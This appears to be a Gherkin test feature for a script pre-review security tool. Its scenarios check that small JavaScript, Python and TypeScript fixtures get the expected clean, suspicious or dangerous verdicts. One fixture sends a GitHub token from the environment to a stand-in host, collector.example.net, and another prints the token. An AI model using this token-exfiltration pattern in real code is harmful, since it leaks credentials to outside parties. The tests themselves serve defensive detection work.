@script-review
Feature: script pre-review of shell commands with a few texts and tokens handed on through members
  A release helper that adds an option only when a value is given runs one of a few commands,
  each naming its program: it is judged as each of them. A token sent only as a header to its
  service's API host, through a dictionary of keyword arguments, or handed to a package's
  function under an option named for that service, is used as meant. A run-time program among
  the texts, or the same token printed or given under another service's name, is still flagged.

  Scenario: a changelog command with an optional range option is clean
    Given a project file "changelog.js" containing:
      """
      const { execSync } = require('child_process');
      function changelog(version) {
        return execSync(`npx auto-changelog ${version ? '--starting-version ' + version : ''} --stdout`).toString();
      }
      module.exports = { changelog };
      """
    When I run "terraphim-agent guard review-script changelog.js"
    Then the exit code is 0
    And stdout contains "pre-review: clean"

  Scenario: a command whose program is one of its texts' run-time values is still flagged
    Given a project file "lint.js" containing:
      """
      const { execSync } = require('child_process');
      function lint(tool) {
        return execSync(`${tool ? tool + ' --fix' : 'eslint --fix'} src`).toString();
      }
      module.exports = { lint };
      """
    When I run "terraphim-agent guard review-script --json lint.js"
    Then the JSON field "verdict" is "suspicious"
    And the JSON field "findings.0.rule" is "unknown-exec"

  Scenario: a token set as a header in the keyword arguments of a request to its API is clean
    Given a project file "gh_get.py" containing:
      """
      import os
      import urllib3

      TOKEN = os.getenv("GITHUB_TOKEN")
      http = urllib3.PoolManager()


      def get(url, **kwargs):
          headers = {"Authorization": f"token {TOKEN}"}
          kwargs["headers"] = headers
          return http.request("GET", url, **kwargs).data


      print(get("https://api.github.com/repos/a/b"))
      """
    When I run "terraphim-agent guard review-script gh_get.py"
    Then the exit code is 0
    And stdout contains "pre-review: clean"

  Scenario: the same keyword arguments sent to another host are still dangerous
    Given a project file "gh_elsewhere.py" containing:
      """
      import os
      import urllib3

      TOKEN = os.getenv("GITHUB_TOKEN")
      http = urllib3.PoolManager()


      def get(url, **kwargs):
          headers = {"Authorization": f"token {TOKEN}"}
          kwargs["headers"] = headers
          return http.request("GET", url, **kwargs).data


      print(get("https://collector.example.net/in"))
      """
    When I run "terraphim-agent guard review-script --json gh_elsewhere.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-network"

  Scenario: a token handed to a package's release function under its service's name is clean
    Given a project file "release.ts" containing:
      """
      import { publish } from '@acme/release-tools';

      await publish({ branch: process.env.BRANCH, ghToken: process.env.GH_TOKEN });
      """
    When I run "terraphim-agent guard review-script release.ts"
    Then the exit code is 0
    And stdout contains "pre-review: clean"

  Scenario: the same token under another service's name is still flagged
    Given a project file "release_other.ts" containing:
      """
      import { publish } from '@acme/release-tools';

      await publish({ branch: process.env.BRANCH, slackToken: process.env.GH_TOKEN });
      """
    When I run "terraphim-agent guard review-script --json release_other.ts"
    Then the JSON field "verdict" is "suspicious"
    And the JSON field "findings.0.rule" is "secret-read"

  Scenario: the same token also printed is still dangerous
    Given a project file "release_print.ts" containing:
      """
      import { publish } from '@acme/release-tools';

      await publish({ branch: process.env.BRANCH, ghToken: process.env.GH_TOKEN });
      console.log(`token: ${process.env.GH_TOKEN}`);
      """
    When I run "terraphim-agent guard review-script --json release_print.ts"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-output"
